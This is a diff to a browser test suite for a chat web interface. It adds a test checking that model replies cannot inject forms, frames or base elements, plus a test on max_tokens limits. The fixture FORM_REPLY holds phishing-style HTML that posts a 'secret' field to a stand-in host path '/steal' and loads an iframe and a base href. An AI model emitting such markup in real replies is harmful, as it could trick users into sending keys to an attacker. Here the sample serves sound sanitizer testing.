@@ -265,6 +265,68 @@ def test_markdown_rendered_and_sanitized(server_url, browser):
     assert clip == MARKDOWN_REPLY, clip
 
 
+# Model output that tries to put a form on the page (a phishing pattern: the
+# button posts what is typed to another host) and other elements that load
+# or move things; a GFM task list, whose checkboxes become characters.
+FORM_REPLY = """Please confirm your key:
+<form action="http://127.0.0.1:9/steal" method="post"><input name="secret" value="x">
+<select name="s"><option>a</option></select><textarea name="t">y</textarea>
+<button type="submit" formaction="http://127.0.0.1:9/">Send</button></form>
+<iframe src="http://127.0.0.1:9/"></iframe><base href="http://127.0.0.1:9/"><dialog open>d</dialog>
+<p style="position:fixed;top:0">overlay</p>
+
+- [x] done
+- [ ] todo
+"""
+
+
+def test_reply_can_hold_no_form(server_url, browser):
+    """Rendered replies keep no form, control, frame or base element, and
+    the page's CSP forbids form posts, <base> and framing."""
+    d = browser
+    open_page(d, server_url)
+    d.execute_script(FAKE_STREAM, FORM_REPLY, [], {"prompt_tokens": 10, "completion_tokens": 60}, 2)
+    send(d, "Show me a form")
+    wait_replies(d, 1, 30)
+    reply = css(d, ".msg.assistant .bubble")[0]
+    bad = "form, input, button, select, option, textarea, iframe, base, dialog, [style], [formaction]"
+    found = [el.tag_name for md in reply.find_elements("css selector", ".md") for el in md.find_elements("css selector", bad)]
+    assert not found, found
+    assert "\u2611 done" in reply.text and "\u2610 todo" in reply.text
+    assert d.execute_script("return document.baseURI") == server_url + "/"
+    assert d.execute_script("return document.forms.length") == 2  # the page's own: composer, key dialog
+    _, headers, _ = request(server_url + "/")
+    csp = [p.strip() for p in headers["Content-Security-Policy"].split(";")]
+    for rule in ("default-src 'self'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'"):
+        assert rule in csp, csp
+
+
+def test_max_tokens_clamped_to_context(browser):
+    """stories260K holds 128 tokens: a saved max_tokens of 1024 (the old
+    default) is not sent, the field offers at most the context, and the
+    reply comes; a base model is labelled as one."""
+    d = browser
+    with Server(tiny_model(), "--chat-template", "chatml") as srv:
+        open_page(d, srv.url, {"max_tokens": 1024})
+        wait_for(lambda: css(d, "#max_tokens")[0].get_attribute("placeholder") == "up to 128", 15,
+                 "the context from /v1/models")
+        assert css(d, "#max_tokens")[0].get_attribute("value") == ""
+        assert css(d, "#max_tokens")[0].get_attribute("max") == "128"
+        assert "base model" in css(d, "#model")[0].text
+        d.execute_script(SPY_FETCH)
+        send(d, "Once upon a time")
+        wait_replies(d, 1, 60)
+        assert not css(d, ".error")
+        sent = d.execute_script("return window.__requests")
+        assert sent and "max_tokens" not in sent[0], sent
+        # a value inside the context is sent as it is
+        open_page(d, srv.url, {"max_tokens": 5})
+        d.execute_script(SPY_FETCH)
+        send(d, "Once more")
+        wait_replies(d, 1, 60)
+        assert d.execute_script("return window.__requests")[-1]["max_tokens"] == 5
+
+
 def test_conversations_kept_and_listed(server_url, browser):
     d = browser
     open_page(d, server_url, FAST)
@@ -409,7 +471,7 @@ def test_api_key_dialog(browser):
                  "the dialog to come back for a wrong key")
         css(d, "#key-input")[0].send_keys("sesame-123")
         css(d, "#key-save")[0].click()
-        wait_for(lambda: css(d, "#model")[0].text == "stories260K.gguf", 15, "the model name")
+        wait_for(lambda: css(d, "#model")[0].text.startswith("stories260K.gguf"), 15, "the model name")
         assert d.execute_script("return sessionStorage.getItem('genloop.apiKey')") == "sesame-123"
         assert d.execute_script("return localStorage.getItem('genloop.apiKey')") is None
         send(d, "Once upon a time")
